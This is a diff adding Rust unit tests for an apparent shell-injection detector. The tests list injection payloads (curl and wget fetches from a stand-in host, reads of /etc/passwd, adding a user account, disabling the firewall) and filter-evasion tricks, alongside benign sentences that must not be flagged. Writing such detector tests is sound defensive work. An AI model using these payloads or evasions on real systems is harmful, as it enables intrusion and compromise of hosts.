@@ -1,0 +1,73 @@
+use super::super::tests::{quiet, score};
+use super::super::{Class, THRESHOLD};
+
+#[track_caller]
+fn check(values: &[&str]) {
+    for value in values {
+        assert!(
+            score(Class::Shell, value) >= THRESHOLD,
+            "{value}: {}",
+            score(Class::Shell, value)
+        );
+    }
+}
+
+#[test]
+fn commands_behind_separators_are_found() {
+    check(&[
+        "; id",
+        "x | cat /etc/hosts",
+        "1 && whoami",
+        "a;sleep 10",
+        "`uname -a`",
+        "$(curl http://h/x)",
+        "a\nping -c 3 10.0.0.1",
+        "& netsh firewall set opmode disable",
+        "|| wget http://h/x -O /tmp/x",
+    ]);
+}
+
+#[test]
+fn commands_alone_are_found_with_arguments() {
+    check(&[
+        "cat /etc/passwd",
+        "uname -a",
+        "net user eve secret /add",
+        "/bin/bash -c 'id'",
+        "powershell -enc SQBFAFgA",
+        "whoami",
+    ]);
+}
+
+#[test]
+fn what_hides_a_name_does_not_help() {
+    check(&[
+        "a;c''at /etc/passwd",
+        "a;c\\at /etc/hosts",
+        "cat${IFS}/x",
+        "/b?n/c?t /etc/h?sts",
+        "{cat,/etc/hosts}",
+        "a;/usr/bin/who$@ami -x",
+    ]);
+}
+
+#[test]
+fn sentences_and_signs_are_not() {
+    for value in [
+        "Salt & pepper; find more in our shop",
+        "AT&T | Verizon",
+        "ping 127.0.0.1",
+        "First, run `ls` and then `cat` the file to see what is in it.",
+        "Cut; print; send; done",
+        "I love my cat | dog",
+        "head of sales; more at ten",
+        "kill the lights & sleep well",
+        "a || b && c",
+        "Go to the store.\nFind milk.\nCat food too.",
+        ";environment",
+        "C:\\Users\\cat\\file.txt",
+        "https://example.com/?a=1&id=2&sort=name",
+    ] {
+        quiet(value);
+    }
+}
